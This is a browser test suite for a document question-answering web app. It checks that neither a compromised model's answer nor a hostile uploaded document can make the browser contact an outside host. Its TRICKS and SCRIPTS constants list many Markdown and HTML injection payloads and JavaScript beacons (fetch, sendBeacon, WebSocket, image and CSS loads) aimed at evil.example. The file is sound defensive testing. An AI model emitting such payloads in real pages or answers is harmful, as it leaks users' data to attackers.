"""A browser that believes every foreign name to be a listener of ours, and what that listener hears: nothing.

Chromium really connects here when a page asks it to (the first test shows that), so silence is no accident of names
that nobody resolves.
"""

from __future__ import annotations

import html
import json
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import closing, suppress
from dataclasses import dataclass, field
from string import ascii_lowercase

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright
from served import CHROMIUM, Site, running, sign_in

from storage.catalog import Catalog

pytestmark = [pytest.mark.browser, pytest.mark.slow]
expect.set_options(timeout=60_000)
E = "http://evil.example"
TRICKS = (
    f"![a]({E}/1) ![b][ref] [c]({E}/2) <{E}/3> {E}/4 www.evil.example mailto:x@evil.example",
    f'<img src="{E}/5"> <img srcset="{E}/6 2x"> <svg><image href="{E}/7"/></svg> <video poster="{E}/8">',
    f'<link rel=stylesheet href="{E}/9"> <style>@import url({E}/10); * {{background: url({E}/11)}}</style>',
    f'<p style="background-image: url({E}/12)">x</p> <iframe src="{E}/13"></iframe> <object data="{E}/14">',
    f'<meta http-equiv=refresh content="0;url={E}/15"> <base href="{E}/"> <a href="{E}/16" ping="{E}/17">x</a>',
    f'<link rel=prefetch href="{E}/18"> <link rel=preconnect href="{E}"> <link rel=dns-prefetch href="//a.example">',
    f"<script src={E}/19></script> <img src=x onerror=fetch('{E}/20')> <form action={E}/21><button>x</button>",
    f"$\\includegraphics{{{E}/22}}$ $$\\href{{{E}/23}}{{x}}$$ :material/home: :red[![x]({E}/24)] #[x]({E}/25)",
    f"[ref]: {E}/26\n\n| a | ![x]({E}/27) |\n| --- | --- |\n| <img src={E}/28> | b |\n\n```\n![x]({E}/29)\n```",
    f"![x](\n{E}/30 'a') [1]({E}/31) [^1]: {E}/32 &#60;img src={E}/33&#62; \\<img src={E}/34>",
    f"<a href='java\tscript:fetch(\"{E}/35\")'>x</a> <details open ontoggle=fetch('{E}/36')> //evil.example/37",
)
# what a script of ours could be made to do, if markup ever got through: each is for the policy to stop
SCRIPTS = (
    f"new Image().src = '{E}/a'",
    f"fetch('{E}/b', {{mode: 'no-cors'}}).catch(() => 0)",
    f"navigator.sendBeacon('{E}/c', 'x')",
    f"try {{ new WebSocket('{E.replace('http', 'ws')}/d') }} catch {{}}",
    f"try {{ new EventSource('{E}/e') }} catch {{}}",
    f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{E}/f'}}))",
    f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'stylesheet', href: '{E}/g'}}))",
    f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: '{E}/h'}}))",
    f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'icon', href: '{E}/i'}}))",
    f"document.head.append(Object.assign(document.createElement('script'), {{src: '{E}/j'}}))",
    f"document.body.style.background = 'url({E}/k)'",
    "document.head.append(Object.assign(document.createElement('style'), "
    f"{{textContent: '@import url({E}/l); @font-face {{font-family: q; src: url({E}/m)}} * {{font-family: q}}'}}))",
    f"document.body.append(Object.assign(document.createElement('video'), {{src: '{E}/n'}}))",
    f"document.body.append(Object.assign(document.createElement('object'), {{data: '{E}/o'}}))",
    f"const f = document.createElement('form'); f.action = '{E}/p'; document.body.append(f); f.submit()",
)


SILENT = "a connection without a word"


@dataclass
class Trap:
    """The listener that every foreign name leads to."""

    port: int
    heard: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with closing(socket.create_server(("127.0.0.1", 0))) as listening:
        made = Trap(port=listening.getsockname()[1])

        def hear(connection: socket.socket) -> None:
            with connection:
                connection.settimeout(5)
                try:
                    said = connection.recv(300).decode(errors="replace").split("\r\n")[0]
                except OSError:
                    said = ""
            made.heard.append(said or SILENT)

        def listen() -> None:
            with suppress(OSError):  # the test is over
                while True:
                    threading.Thread(target=hear, args=(listening.accept()[0],), daemon=True).start()

        threading.Thread(target=listen, daemon=True).start()
        yield made


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """With a hostile document: as it would be shown, and escaped so that its text is read as written."""
    body = "".join(f"<p>The Kestrel budget is 815 euro. {trick} {html.escape(trick)}</p>" for trick in TRICKS)
    title = html.escape(f"Kestrel {TRICKS[0]} {TRICKS[1]}")
    page = f"<html><head><title>{title}</title></head><body>{body}</body></html>"
    with running(tmp_path_factory.mktemp("trap"), {"everyone/kestrel ![x](http:evil.example).html": page}) as made:
        yield made


@pytest.fixture(scope="module")
def browser(trap: Trap) -> Iterator[Browser]:
    rules = [
        f"--host-resolver-rules=MAP *.example 127.0.0.1:{trap.port}",
        "--disable-features=LocalNetworkAccessChecks",  # else pages may not reach this host, which is where the trap is
    ]
    with sync_playwright() as play:
        launched = play.chromium.launch(executable_path="/usr/bin/chromium", args=[*CHROMIUM.split(), *rules])
        yield launched
        launched.close()


@pytest.fixture(autouse=True)
def _nothing_heard_before(trap: Trap) -> None:
    trap.heard.clear()


def _look(page: Page, trap: Trap) -> None:
    page.wait_for_timeout(1500)
    assert trap.heard == []


def test_the_trap_hears_what_a_browser_is_made_to_do(browser: Browser, trap: Trap) -> None:
    """Each trick of a script, on a page without our policy; and the pictures of Markdown as others render it."""
    with closing(browser.new_context()) as context:
        for letter, script in zip(ascii_lowercase, SCRIPTS, strict=False):
            page = context.new_page()  # each its own: some go elsewhere
            page.evaluate(f"() => {{ {script} }}")
            if letter in "abdefgjklp":  # the others depend on the browser's mood
                _heard(page, trap, letter)
        page = context.new_page()
        shown = json.dumps("".join(f"<p>{trick}</p>" for trick in TRICKS if "refresh" not in trick))
        page.evaluate(f"() => {{ document.body.innerHTML = {shown} }}")
        for number in ("5", "8", "9", "11", "13"):
            _heard(page, trap, number)


def _heard(page: Page, trap: Trap, name: str) -> None:
    until = time.monotonic() + 30
    while not any(f"/{name} HTTP" in said for said in trap.heard):
        assert time.monotonic() < until, (name, trap.heard)
        page.wait_for_timeout(50)


def test_what_a_bent_model_writes_reaches_nobody(page: Page, site: Site, trap: Trap) -> None:
    """As it is written, as it is kept, with every link of it clicked."""
    site.model.status = 200
    proof = "Every employee has 30 days of annual leave [1]."
    site.model.says("\n\n".join(f"{proof} {trick}\n{proof}" for trick in TRICKS))
    sign_in(page, site, "ada")
    box = page.get_by_placeholder("Ask about your documents")
    box.fill("How many days of annual leave does every employee have?")
    box.press("Enter")
    expect(page.locator("[class*=st-key-cites_]").last).to_be_visible()  # it has been written to its end
    expect(page.locator(".answer").first).to_contain_text("30 days of annual leave")
    _look(page, trap)
    page.reload()
    expect(page.locator(".answer").first).to_contain_text("30 days of annual leave")
    for number in range(page.locator(".answer a").count()):
        page.locator(".answer a").nth(number).click()
        page.wait_for_timeout(200)
    _look(page, trap)
    assert page.url.startswith(site.address)


def test_a_hostile_document_reaches_nobody(page: Page, site: Site, trap: Trap) -> None:
    """Its passage, its names in lists, its original opened by its address, and as an administrator sees it."""
    sign_in(page, site, "root")
    box = page.get_by_placeholder("Ask about your documents")
    box.fill("What is the Kestrel budget in euro?")
    box.press("Enter")
    expect(page.locator(".answer").first).to_contain_text("815")
    page.locator("[class*=st-key-cite_] button").first.click()
    expect(page.locator(".sourcetitle")).to_be_visible()
    _look(page, trap)
    found = next(item for item in Catalog(site.database).documents(labels=None) if "kestrel" in item.path)
    for path in ("/documents", "/administration", "/about"):
        page.goto(site.address + path)
        page.wait_for_timeout(1000)
    _look(page, trap)
    with page.expect_download() as download:  # never shown as a page of ours
        page.evaluate(f"() => {{ location.href = '/api/v1/revisions/{found.revision}/original' }}")
    assert download.value.suggested_filename.endswith(".html")
    _look(page, trap)


def test_the_policy_stops_what_a_script_would_send(browser: Browser, site: Site, trap: Trap) -> None:
    """The second line: markup that got through. On every kind of page that the server gives out.

    For a frame and a form Chromium opens a connection ahead, sends nothing, and closes it when the policy refuses them.
    """
    with closing(browser.new_context()) as context:
        page = context.new_page()
        sign_in(page, site, "ada")
        expect(page.locator(".welcome")).to_be_visible()
        for path in ("/", "/signin", "/api/v1/documents", "/api/v1/nothing", "/healthz"):
            for script in SCRIPTS:
                page.goto(site.address + path)
                page.evaluate(f"() => {{ try {{ {script} }} catch (error) {{}} }}")
            page.wait_for_timeout(500)
            assert set(trap.heard) <= {SILENT}, path
